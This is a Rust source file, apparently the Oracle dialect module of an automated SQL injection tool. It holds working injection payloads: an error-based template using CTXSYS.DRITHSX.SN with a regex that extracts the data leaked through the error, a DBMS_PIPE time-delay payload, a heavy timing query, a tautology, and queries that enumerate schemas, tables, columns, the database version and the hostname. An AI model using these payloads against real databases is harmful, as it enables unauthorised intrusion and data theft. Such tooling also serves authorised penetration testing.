use super::{Capabilities, Dialect, PayloadTemplate};
use crate::sqli::core::enums::DBMS;
use once_cell::sync::Lazy;
use regex::Regex;

static THESAURUS_ERROR: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"DRG-11701: thesaurus (.*?) does not exist").unwrap());

const ERROR_PAYLOADS: &[PayloadTemplate] = &[PayloadTemplate {
    name: "drithsx",
    template: "1=CTXSYS.DRITHSX.SN(1,({expr}))",
    dbms: DBMS::Oracle,
    columns: 1,
}];

#[derive(Debug, Clone, Copy, Default)]
pub struct Oracle;

impl Dialect for Oracle {
    fn dbms(&self) -> DBMS {
        DBMS::Oracle
    }

    fn concatenate(&self, parts: &[&str]) -> String {
        parts.join("||")
    }

    fn substring(&self, expr: &str, start: usize, length: usize) -> String {
        format!("SUBSTR(({}),{},{})", expr, start, length)
    }

    fn char_of(&self, code: u32) -> String {
        format!("CHR({})", code)
    }

    fn version_query(&self) -> &'static str {
        "SELECT banner FROM v$version WHERE ROWNUM=1"
    }

    fn current_user_query(&self) -> &'static str {
        "USER"
    }

    fn current_db_query(&self) -> &'static str {
        "SELECT SYS_CONTEXT('USERENV','DB_NAME') FROM DUAL"
    }

    fn hostname_query(&self) -> &'static str {
        "SELECT UTL_INADDR.GET_HOST_NAME FROM DUAL"
    }

    fn databases_query(&self) -> String {
        "SELECT LISTAGG(owner,'|') WITHIN GROUP (ORDER BY owner) FROM (SELECT DISTINCT owner FROM all_tables)"
            .to_string()
    }

    fn tables_query(&self, database: &str) -> String {
        format!(
            "SELECT LISTAGG(table_name,'|') WITHIN GROUP (ORDER BY table_name) FROM all_tables WHERE owner={}",
            self.quote_string(&database.to_uppercase())
        )
    }

    fn columns_query(&self, database: &str, table: &str) -> String {
        format!(
            "SELECT LISTAGG(column_name,'|') WITHIN GROUP (ORDER BY column_id) FROM all_tab_columns WHERE owner={} AND table_name={}",
            self.quote_string(&database.to_uppercase()),
            self.quote_string(&table.to_uppercase())
        )
    }

    fn sleep_function(&self, seconds: u64) -> Option<String> {
        Some(format!("DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),{})", seconds))
    }

    fn heavy_query(&self, _seconds: u64) -> String {
        "(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4)".to_string()
    }

    fn from_dummy(&self) -> Option<&'static str> {
        Some("DUAL")
    }

    fn error_payloads(&self) -> &'static [PayloadTemplate] {
        ERROR_PAYLOADS
    }

    fn error_pattern(&self) -> Option<&'static Regex> {
        Some(&THESAURUS_ERROR)
    }

    fn capabilities(&self) -> Capabilities {
        Capabilities {
            stacked_queries: false,
            error_based: true,
            union: true,
            file_io: false,
            os_exec: false,
            subqueries: true,
            case_when: true,
            limit_offset: false,
        }
    }

    fn tautology(&self) -> &'static str {
        "ROWNUM=ROWNUM"
    }
}
